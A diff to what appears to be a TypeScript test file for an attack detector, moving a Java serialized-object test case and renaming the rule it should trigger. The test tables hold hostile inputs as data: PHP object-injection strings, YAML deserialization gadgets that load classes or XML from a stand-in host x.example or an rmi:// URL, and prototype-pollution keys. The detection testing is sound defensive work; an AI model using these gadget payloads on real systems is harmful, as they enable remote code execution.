@@ -450,7 +450,6 @@ const TABLES: readonly ClassTable[] = [
       'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
       'a:1:{i:0;O:10:"Monolog\\Foo":0:{}}',
       'O:24:"GuzzleHttp\\Psr7\\FnStream":1:{s:9:"_fn_close";s:7:"phpinfo";}',
-      { in: 'query', text: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==' },
     ],
     passed: [
       'Wow!! Python/Django meetup tonight',
@@ -596,7 +595,7 @@ const ONCE_INERT: readonly { text: string; fired: string }[] = [
   { text: squeeze('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example/"]]]]'), fired: 'cmdi.deserialization' },
   { text: squeeze('!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "rmi://x.example/o", autoCommit: true}'), fired: 'cmdi.deserialization' },
   { text: squeeze('!!org.springframework.context.support.FileSystemXmlApplicationContext ["http://x.example/a.xml"]'), fired: 'cmdi.deserialization' },
-  { text: squeeze('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=='), fired: 'cmdi.deserialization' },
+  { text: squeeze('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=='), fired: 'java.serialized_base64' },
   { text: '__proto__[isAdmin]', fired: 'xss.prototype_pollution' },
   { text: '__proto__.isAdmin', fired: 'xss.prototype_pollution' },
   { text: 'a.constructor.prototype.isAdmin', fired: 'xss.prototype_pollution' },
